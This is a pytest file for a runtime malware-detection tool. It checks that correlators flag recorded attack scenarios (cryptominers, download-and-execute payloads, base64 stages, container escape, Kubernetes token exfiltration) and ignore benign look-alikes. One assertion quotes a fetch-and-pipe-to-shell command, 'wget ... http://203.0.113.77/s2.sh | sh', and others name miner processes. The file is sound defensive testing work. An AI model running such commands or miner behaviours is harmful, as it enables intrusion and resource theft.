"""Each detector on real event streams of the scenario corpus: the re-enactment must hit with
its technique, and the benign look-alikes (B1–B7) must not fire at all."""

from __future__ import annotations

import pytest

from detonate.detect.correlations import CORRELATORS
from detonate.model.findings import Finding, Severity
from detonate.run_record import RECORD_NAME, load_run_record, missing_artifacts

from .recorded_runs import RUNS, load_run, recorded_names

EXPECTED: dict[str, set[str]] = {
    "t01-hidden-miner": {"stratum-mining-login", "mining-pool-connection"},
    "t02-disguised-miner": {"stratum-mining-login", "mining-pool-connection"},
    # the shell that read the downloaded or decoded script is named too (T1059.004)
    "t03-runtime-payload": {
        "download-pipe-shell",
        "download-write-exec",
        "download-fed-to-interpreter",
        "shell-ran-delivered-code",
    },
    "t04-delayed-payload": {
        "download-pipe-shell",
        "download-write-exec",
        "download-fed-to-interpreter",
        "sleep-before-activity",
        "shell-ran-delivered-code",
    },
    "t05-downloader-fallback": {"download-write-exec", "shell-ran-delivered-code"},
    "t06-base64-stage": {
        "decode-to-shell",
        "obfuscated-command-stage",
        "download-pipe-shell",
        "download-fed-to-interpreter",
        "shell-ran-delivered-code",
    },
    "t07-competitor-killer": {"kill-competing-miners", "mass-process-kill"},
    "t15-hidden-paths": {"download-write-exec"},
    "t16-internal-scanner": {"network-service-scan"},
    "t17-docker-socket": {"docker-api-container-deploy", "docker-api-privileged-container"},
    "t18-escape-attempts": {"cgroup-release-agent-escape"},
    "t20-http-flood": {"http-flood"},
    # the token read is a provenance input with today's tracer: its bearer use is a send too
    "t21-kube-pivot": {
        "service-account-token-read",
        "honeytoken-exfiltration",
        "credentials-sent-out",
    },
}
BENIGN = [name for name in recorded_names() if name.startswith("b0")]
# Recorded scenarios a correlator judges wrongly today, with the reason. Strict: one that starts
# passing must leave this list.
WRONG_TODAY: dict[str, str] = {}


def findings_for(name: str) -> list[Finding]:
    run = load_run(name)
    return [f for detector in CORRELATORS for f in detector.detect(run)]


@pytest.mark.parametrize(
    "scenario",
    [
        pytest.param(n, marks=pytest.mark.xfail(strict=True, reason=WRONG_TODAY[n]))
        if n in WRONG_TODAY
        else n
        for n in sorted(EXPECTED)
    ],
)
def test_scenario_hits_exactly_its_correlations(scenario: str) -> None:
    found = {f.rule_id for f in findings_for(scenario)}
    assert found == EXPECTED[scenario]


@pytest.mark.parametrize("scenario", BENIGN)
def test_benign_look_alike_raises_no_correlation(scenario: str) -> None:
    assert findings_for(scenario) == []


def test_benign_corpus_is_present() -> None:
    assert {"b01-web-healthcheck", "b02-base64-config", "b04-package-fetch"} <= set(BENIGN)


def test_every_finding_carries_evidence_with_event_ids() -> None:
    for scenario in EXPECTED:
        for found in findings_for(scenario):
            assert found.evidence, found.rule_id
            assert any(e.event_ids for e in found.evidence), found.rule_id
            assert found.source.startswith("runtime:")


def test_base64_stage_shows_both_decoded_stages() -> None:
    decoded = next(f for f in findings_for("t06-base64-stage") if f.rule_id == "decode-to-shell")
    excerpts = [e.excerpt for e in decoded.evidence if e.description.startswith("decoded stage")]
    assert len(excerpts) == 2
    assert excerpts[0].startswith('eval "$(echo ')
    assert "wget -q -O- http://203.0.113.77/s2.sh | sh" in excerpts[1]


def test_delayed_payload_reports_the_delay_and_is_high() -> None:
    delay = next(
        f for f in findings_for("t04-delayed-payload") if f.rule_id == "sleep-before-activity"
    )
    assert delay.severity == Severity.HIGH
    assert "600 s" in delay.evidence[0].description


def test_downloads_name_the_url_and_the_file_hash() -> None:
    chain = next(
        f for f in findings_for("t03-runtime-payload") if f.rule_id == "download-write-exec"
    )
    assert any("update.cdn-mirror.test" in e.destination for e in chain.evidence)
    written = next(e for e in chain.evidence if e.path == "/tmp/.sysd" and e.sha256)
    assert len(written.sha256) == 64


def test_mining_evidence_names_wallet_pool_agent_and_disguised_process() -> None:
    login = next(
        f for f in findings_for("t02-disguised-miner") if f.rule_id == "stratum-mining-login"
    )
    first = login.evidence[0]
    assert login.severity == Severity.CRITICAL
    assert "wallet 461Yve" in first.excerpt and "agent XMRig" in first.excerpt
    assert first.destination.startswith("xmr-eu.gulfpool.test:443")
    assert first.path == "/tmp/kdevtmpfsi"


def test_killed_competitors_are_named() -> None:
    kill = next(
        f for f in findings_for("t07-competitor-killer") if f.rule_id == "kill-competing-miners"
    )
    text = " ".join(e.description for e in kill.evidence)
    for name in ("kinsing", "kdevtmpfsi", "xmrig", "sysupdate"):
        assert name in text


def test_exfiltrated_token_is_found_inside_the_jwt_bearer() -> None:
    exfil = next(
        f for f in findings_for("t21-kube-pivot") if f.rule_id == "honeytoken-exfiltration"
    )
    assert exfil.severity == Severity.CRITICAL
    assert "Authorization" in exfil.evidence[0].description
    assert exfil.evidence[0].destination.startswith("kubernetes.default.svc")


def test_each_recording_is_a_whole_run_record() -> None:
    """What scripts/record-scenario-runs stores is a run record `detonate rejudge` accepts:
    every dropped-file copy it names is beside it."""
    for name in recorded_names():
        record = load_run_record(RUNS / name / RECORD_NAME)
        assert record.result.events, name
        assert missing_artifacts(record) == [], name
